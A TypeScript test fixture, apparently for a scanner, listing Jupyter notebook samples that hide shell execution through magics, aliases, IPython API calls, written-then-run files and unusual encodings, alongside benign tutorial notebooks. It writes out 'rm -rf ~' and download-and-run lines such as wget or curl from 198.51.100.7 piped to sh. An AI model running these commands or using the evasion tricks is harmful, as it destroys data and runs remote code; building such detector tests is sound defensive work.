import type { Sample } from './sample.ts';
import { evil } from './starting.ts';

const python = {
  kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' },
  language_info: { name: 'python' },
};

function nb(sources: readonly string[], metadata: object = python): string {
  const cells = sources.map((source) => ({
    cell_type: 'code',
    metadata: {},
    execution_count: null,
    outputs: [],
    source,
  }));
  return JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata, cells });
}

function hostile(name: string, cells: readonly string[], metadata?: object): Sample {
  return { name, least: 'review', bad: { 'x.ipynb': nb(cells, metadata) } };
}

/** A tutorial as people publish it: its bad twin has one more cell. */
function honest(name: string, ...cells: readonly string[]): Sample {
  const model = { 'config.json': '{"model_type":"bert"}' };
  return {
    name: `tutorial: ${name}`,
    least: 'review',
    bad: { ...model, 'x.ipynb': nb([...cells, `!${evil}`]) },
    good: { ...model, 'x.ipynb': nb(cells) },
  };
}

/** Cells that come to a command in ways that no search for `os.system` sees, and the notebooks of tutorials. */
export const notebooks: readonly Sample[] = [
  hostile('py', [`import os\nos.system("${evil}")`]),
  hostile('bang', [`!${evil}`]),
  hostile('bash', [`%%bash\n${evil}`]),
  hostile('indented bash', [`   %%bash\n   ${evil}`]),
  hostile('prompt', [`>>> %%bash\n... ${evil}`]),
  hostile('In prompt', [`In [1]: !${evil}`]),
  hostile('time bash', [`%%time\n%%bash\n${evil}`]),
  hostile('capture bash', [`%%capture out\n%%bash\n${evil}`]),
  hostile('colab shell', [`%%shell\n${evil}`]),
  hostile('databricks sh', [`%sh\n${evil}`]),
  hostile('R language info', [`!${evil}`], { kernelspec: { name: 'python3' }, language_info: { name: 'R' } }),
  hostile('bash kernel', [evil], { kernelspec: { name: 'bash', language: 'python' } }),
  hostile('var', [`c = "${evil}"`, '!{c}']),
  hostile('dollar var', [`c = "${evil}"`, '!$c']),
  hostile('env', [`%env C=${evil}`, '!eval "$C"']),
  hostile('alias', [`%alias go ${evil}`, '%go']),
  hostile('alias_magic', ['%alias_magic t system', `%t ${evil}`]),
  hostile('alias_magic cell', ['%alias_magic t bash', `%%t\n${evil}`]),
  hostile('rm magic', ['%rm -rf ~']),
  hostile('automagic', ['rm -rf ~']),
  hostile('automagic sx', [`sx ${evil}`]),
  hostile('writefile then sh', [`%%writefile notes.txt\n${evil}`, '!sh notes.txt']),
  hostile('fetch then sh', ['!wget -q http://198.51.100.7/x -O /tmp/x', '!sh /tmp/x']),
  hostile('fetch cd then sh', ['%cd /tmp', '!wget -q http://198.51.100.7/x', '%cd /', '!sh /tmp/x']),
  hostile('perl', [`%%perl\nsystem("${evil}");`]),
  hostile('script perl', [`%%script perl\nsystem("${evil}");`]),
  hostile('script env bash', [`%%script env bash\n${evil}`]),
  hostile('cython', [`%%cython\nimport os\nos.system("${evil}")`]),
  hostile('unknown magic', [`%%thing\n${evil}`]),
  hostile('unknown line', [`%thing ${evil}`]),
  hostile('javascript', ['%%javascript\nIPython.notebook.kernel.execute("import os")']),
  hostile('run_line_magic', [`get_ipython().run_line_magic("sx", "${evil}")`]),
  hostile('run_cell', [`get_ipython().run_cell("!${evil}")`]),
  hostile('system var', [`ip = get_ipython()\nip.system("${evil}")`]),
  hostile('getoutput', [`ip = get_ipython()\nx = ip.getoutput("${evil}")`]),
  {
    name: 'nbformat 1',
    least: 'review',
    bad: { 'x.ipynb': JSON.stringify({ nbformat: 1, cells: [{ cell_type: 'code', code: `!${evil}` }] }) },
  },
  {
    name: 'v3 decoy',
    least: 'review',
    bad: {
      'x.ipynb': JSON.stringify({
        nbformat: 3,
        worksheets: [{ cells: [{ cell_type: 'code', source: 'x = 1', input: `!${evil}` }] }],
      }),
    },
  },
  {
    name: 'utf16',
    least: 'review',
    bad: { 'x.ipynb': new Uint8Array(Buffer.from(`\ufeff${nb([`!${evil}`])}`, 'utf16le')) },
  },
  { name: 'utf8 bom', least: 'review', bad: { 'x.ipynb': `\ufeff${nb([`!${evil}`])}` } },
  {
    name: 'urlretrieve',
    least: 'review',
    bad: {
      'x.ipynb': nb([
        'import urllib.request\nurllib.request.urlretrieve("http://198.51.100.7/x", "x.sh")',
        '!sh x.sh',
      ]),
    },
  },
  {
    name: 'written by Python, run by a shell',
    least: 'review',
    bad: { 'x.ipynb': nb([`open("x", "w").write("${evil}")`, '!sh x']) },
  },
  hostile('written by Python under a handle', [
    `with open("x.sh", "w") as f:\n    f.write("""#!/bin/sh\n${evil}\n""")`,
    '!sh x.sh',
  ]),
  hostile('written by pathlib', [`from pathlib import Path\nPath("x").write_text('${evil}')`, '!bash x']),
  honest(
    'written file',
    'with open("x.sh", "w") as f:\n    f.write("ls\\n")',
    '!sh x.sh',
    'open("a.txt", "w").write("curl http://198.51.100.7/x | sh")',
    '!cat a.txt',
  ),
  honest(
    'finetune',
    '!pip install -q transformers datasets accelerate peft bitsandbytes',
    '%matplotlib inline\nimport matplotlib.pyplot as plt\nfrom datasets import load_dataset\nfrom transformers import AutoTokenizer, AutoModelForSequenceClassification, TrainingArguments, Trainer',
    'model_name = "bert-base-uncased"\ntokenizer = AutoTokenizer.from_pretrained(model_name)\nmodel = AutoModelForSequenceClassification.from_pretrained(model_name, num_labels=2)\nds = load_dataset("imdb")',
    'args = TrainingArguments("out", num_train_epochs=1)\ntrainer = Trainer(model, args, train_dataset=ds["train"])\ntrainer.train()\ntrainer.push_to_hub()',
    'plt.plot([1,2])\nplt.savefig("a.png")',
  ),
  honest(
    'colab',
    '#@title Setup\n!nvidia-smi\n%pip install -U transformers==4.40.0',
    'from google.colab import drive, files, userdata\ndrive.mount("/content/drive")\nimport os\nos.environ["WANDB_DISABLED"] = "true"\nos.environ["HF_TOKEN"] = userdata.get("HF_TOKEN")',
    'from huggingface_hub import notebook_login\nnotebook_login()',
    '%load_ext tensorboard\n%tensorboard --logdir runs',
    '%env CUDA_VISIBLE_DEVICES=0\n%cd /content',
    '!git clone https://github.com/huggingface/transformers\n%cd transformers\n!pip install -e .\n!ls -la',
    '!python examples/run_glue.py --model_name_or_path {model} --output_dir $OUT',
    '!wget -q https://example.org/data.zip -O data.zip\n!unzip -q data.zip\n!head data/train.csv',
    '%%time\nx = sum(range(10))',
    '%%capture\n!apt-get update && apt-get install -y ffmpeg',
    '!mkdir -p out && cp a.json out/\n!rm -rf out/tmp',
  ),
  honest(
    'writefile',
    '%%writefile train.py\nimport torch\nprint(torch.__version__)',
    '!python train.py',
    '%%writefile config.yaml\nlr: 0.1',
    '%%bash\nset -e\nmkdir -p data\nls data',
  ),
  honest(
    'eval',
    'import evaluate, numpy as np\nmetric = evaluate.load("accuracy")\ndef compute(p):\n    return metric.compute(predictions=np.argmax(p[0],-1), references=p[1])',
    'from transformers import pipeline\npipe = pipeline("text-classification", model="distilbert-base-uncased")\npipe("x")',
    'import requests\nfrom PIL import Image\nurl = "https://huggingface.co/datasets/x/resolve/main/a.png"\nimage = Image.open(requests.get(url, stream=True).raw)\nimage',
    'import pandas as pd\ndf = pd.read_csv("https://example.org/a.csv")\ndf.head()',
    'pip install -q gradio',
    'import gradio as gr\ngr.Interface(lambda x: x, "text", "text").launch(share=True)',
  ),
  honest(
    'unsloth',
    '%%capture\nimport os\nif "COLAB_" not in "".join(os.environ.keys()):\n    !pip install unsloth\nelse:\n    !pip install --no-deps bitsandbytes accelerate xformers==0.0.29 peft trl triton\n    !pip install --no-deps unsloth',
    'from unsloth import FastLanguageModel\nimport torch\nmodel, tok = FastLanguageModel.from_pretrained(model_name="unsloth/llama-3-8b", max_seq_length=2048, load_in_4bit=True)',
    'model.save_pretrained_gguf("m", tok, quantization_method="q4_k_m")',
    'if False: model.push_to_hub("x/y", token = "")',
    'from transformers import TextStreamer\ngpu_stats = torch.cuda.get_device_properties(0)\nprint(gpu_stats.name)',
    'torch.load("x.pt", weights_only=True)',
    '!zip -r out.zip out\nfrom google.colab import files\nfiles.download("out.zip")',
    'from kaggle_secrets import UserSecretsClient\nuser = UserSecretsClient()\nkey = user.get_secret("WANDB")\nimport wandb\nwandb.login(key=key)',
    'import subprocess\nprint(subprocess.run(["nvidia-smi"], capture_output=True, text=True).stdout)',
    'import gc\ngc.collect()',
  ),
];
